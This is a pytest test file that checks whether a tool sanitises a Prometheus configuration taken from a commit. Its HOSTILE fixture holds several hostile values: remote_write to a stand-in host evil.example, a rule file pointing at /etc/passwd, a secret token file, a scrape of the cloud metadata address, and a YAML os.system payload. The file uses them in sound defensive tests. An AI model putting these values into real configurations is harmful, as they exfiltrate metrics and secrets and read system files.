"""A commit's prometheus.yml: what is honoured, what is ignored, and that a hostile one gains nothing."""

from collections.abc import Callable

import pytest
import yaml

from infraaudit_domain.errors import MonitoringError
from resources.prometheus import check_prometheus, render_prometheus

HOSTILE = """
global: {scrape_interval: 5s, external_labels: {a: b}}
rule_files: [/etc/passwd]
remote_write: [{url: "http://evil.example"}]
scrape_configs:
  - job_name: app
    metrics_path: /metrics
    bearer_token_file: /var/run/secrets/token
    file_sd_configs: [{files: [/etc/*.yml]}]
    static_configs: [{targets: ["169.254.169.254:80"]}]
"""


def test_only_the_allowed_keys_are_left() -> None:
    rendered = render_prometheus("shop", HOSTILE, ["http://127.0.0.1:8080"])
    config = yaml.safe_load(rendered.text)
    assert set(config) == {"global", "scrape_configs"} and config["global"] == {"scrape_interval": "5s"}
    (job,) = config["scrape_configs"]
    assert job["static_configs"] == [{"targets": ["127.0.0.1:8080"], "labels": {"project": "shop"}}]
    assert set(job) == {"job_name", "metrics_path", "static_configs"}
    assert {"remote_write", "rule_files", "scrape_configs[0].bearer_token_file"} <= set(rendered.ignored)


def test_what_is_rendered_passes_promtool(needs: Callable[[str], None]) -> None:
    needs("promtool")
    assert check_prometheus(render_prometheus("shop", HOSTILE, ["a:1"]).text) == "promtool check config"
    with pytest.raises(MonitoringError, match="promtool refuses"):
        check_prometheus(render_prometheus("shop", "global: {scrape_interval: often}", ["a:1"]).text)


@pytest.mark.parametrize(
    "text", ["{", "- a", "scrape_configs: 7", "scrape_configs: [7]", "global: []7", "!!python/object:os.system {}"]
)
def test_what_is_no_configuration_is_refused(text: str) -> None:
    with pytest.raises(MonitoringError):
        render_prometheus("shop", text, ["a:1"])
